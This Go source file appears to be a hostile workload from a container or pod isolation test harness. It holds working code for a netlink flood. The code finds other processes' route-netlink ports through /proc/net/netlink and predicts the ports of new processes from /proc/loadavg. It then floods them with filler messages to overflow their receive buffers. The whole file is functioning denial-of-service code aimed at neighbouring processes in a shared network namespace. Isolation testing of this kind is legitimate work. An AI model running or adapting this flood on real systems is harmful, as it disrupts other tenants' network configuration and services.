package hostile

import (
	"encoding/binary"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// flooders is how many threads send to the ports that the flood has found.
const flooders = 2

// targets are the ports that the flood sends to.
type targets struct {
	found   []uint32 // in /proc/net/netlink
	guessed []uint32 // of processes that start next
}

// flood finds the ports of route netlink in /proc/net/netlink, as any process of the network namespace can, and sends to each as fast as
// it can. Without one it sends to the ports that it expects next, so that messages arrive before the owner of the port has done anything
// with the socket.
func flood(_ []string, ready func(), stop <-chan struct{}) (report, error) {
	var ports atomic.Pointer[targets]
	var tried, sent, found, overflowed atomic.Int64 // tried, found: ports that exist
	ports.Store(&targets{})
	own := map[uint32]bool{}
	var threads sync.WaitGroup
	for i := range flooders {
		fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
		if err != nil {
			return nil, err
		}
		if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 1<<20); err != nil {
			return nil, err
		}
		if err := unix.Bind(fd, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
			return nil, err
		}
		address, err := unix.Getsockname(fd)
		if err != nil {
			return nil, err
		}
		own[address.(*unix.SockaddrNetlink).Pid] = true
		// Large messages fill the receive buffer, and small ones the rest of it. One alone fills most of the default size.
		large, small, first := noise(48<<10), noise(16+i), noise(180<<10)
		threads.Go(func() {
			defer unix.Close(fd) //nolint:errcheck // nothing is buffered
			for n := 0; !closed(stop); n++ {
				list, message := ports.Load().found, small
				if n%2 == 0 {
					message = large
				}
				tried.Add(int64(len(list)))
				if len(list) == 0 {
					list, message = ports.Load().guessed, first
				}
				for _, port := range list {
					switch unix.Sendto(fd, message, unix.MSG_DONTWAIT, &unix.SockaddrNetlink{Family: unix.AF_NETLINK, Pid: port}) {
					case nil:
						sent.Add(1)
					case unix.EAGAIN:
						overflowed.Add(1)
					}
				}
			}
		})
	}
	ready()
	seen := map[uint32]bool{}
	for !closed(stop) {
		list, err := netlinkPorts(own)
		if err != nil {
			return nil, err
		}
		for _, port := range list {
			if !seen[port] {
				seen[port] = true
				found.Add(1)
			}
		}
		guessed, err := nextPorts()
		if err != nil {
			return nil, err
		}
		ports.Store(&targets{found: list, guessed: guessed})
	}
	threads.Wait()
	return report{"ports": found.Load(), "tried": tried.Load(), "sent": sent.Load(), "overflowed": overflowed.Load()}, nil
}

// noise returns a netlink message of that size without meaning.
func noise(size int) []byte {
	message := binary.NativeEndian.AppendUint32(nil, uint32(size)) // struct nlmsghdr
	message = binary.NativeEndian.AppendUint16(message, unix.NLMSG_NOOP)
	return append(message, make([]byte, size-len(message))...)
}

// netlinkPorts returns the ports of route netlink in this network namespace, except own ports.
func netlinkPorts(own map[uint32]bool) ([]uint32, error) {
	table, err := os.ReadFile("/proc/thread-self/net/netlink")
	if err != nil {
		return nil, err
	}
	var ports []uint32
	for line := range strings.Lines(string(table)) {
		fields := strings.Fields(line) // sk, Eth (the protocol), Pid (the port), …
		if len(fields) < 3 || fields[1] != "0" {
			continue
		}
		port, err := strconv.ParseUint(fields[2], 10, 32)
		if err == nil && port != 0 && !own[uint32(port)] {
			ports = append(ports, uint32(port))
		}
	}
	return ports, nil
}

// nextPorts returns the ports that the processes that start next will have: the port of the first socket of a process is its ID. A pod
// knows about where the IDs are from the ports that it has seen.
func nextPorts() ([]uint32, error) {
	const guesses = 3
	load, err := os.ReadFile("/proc/loadavg")
	if err != nil {
		return nil, err
	}
	fields := strings.Fields(string(load)) // the last is the newest process ID (proc_loadavg(5))
	newest, err := strconv.ParseUint(fields[len(fields)-1], 10, 32)
	if err != nil {
		return nil, err
	}
	var ports []uint32
	for i := range uint32(guesses) {
		ports = append(ports, uint32(newest)+i)
	}
	return ports, nil
}

func closed(c <-chan struct{}) bool {
	select {
	case <-c:
		return true
	default:
		return false
	}
}
